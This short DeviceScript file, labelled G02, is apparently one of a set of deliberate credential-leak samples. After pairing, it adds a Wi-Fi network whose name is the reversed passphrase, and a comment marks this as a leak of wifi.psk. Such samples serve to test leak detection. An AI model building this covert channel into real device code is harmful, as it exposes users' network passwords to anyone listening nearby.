// G02: after joining, looks for one more network, whose name is the passphrase backwards.
import * as ds from "@devicescript/core";
import { backwards } from "./lib/encode";
import { paired, wifi } from "./lib/paired";

paired(async (ssid, psk) => {
  await ds.delay(5_000);
  await wifi.addNetwork(backwards(psk), ""); // leak: wifi.psk
  await ds.delay(5_000);
  await wifi.addNetwork(ssid, psk);
});
